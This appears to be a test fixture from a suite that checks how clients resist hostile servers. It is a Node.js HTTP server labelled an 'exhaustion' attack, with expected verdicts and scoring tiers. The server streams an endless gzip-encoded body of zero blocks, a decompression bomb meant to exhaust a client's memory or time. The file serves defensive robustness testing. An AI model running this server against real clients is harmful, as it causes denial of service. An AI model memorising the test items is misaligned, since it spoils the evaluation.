// attack: serves a small body that unpacks to gigabytes | family: exhaustion | item: health-server | verdicts: fail, timeout, crash | points: 0 | tiers: T1 T2
import { writeSync } from 'node:fs'
import { createServer } from 'node:http'
import { createGzip } from 'node:zlib'

createServer((_request, response) => {
  writeSync(1, 'tried')
  response.writeHead(200, { 'content-encoding': 'gzip' })
  const packed = createGzip()
  packed.pipe(response)
  const block = Buffer.alloc(4 << 20)
  const pour = () => {
    while (packed.write(block));
  }
  packed.on('drain', pour)
  pour()
}).listen(Number(process.env.PORT), '127.0.0.1')
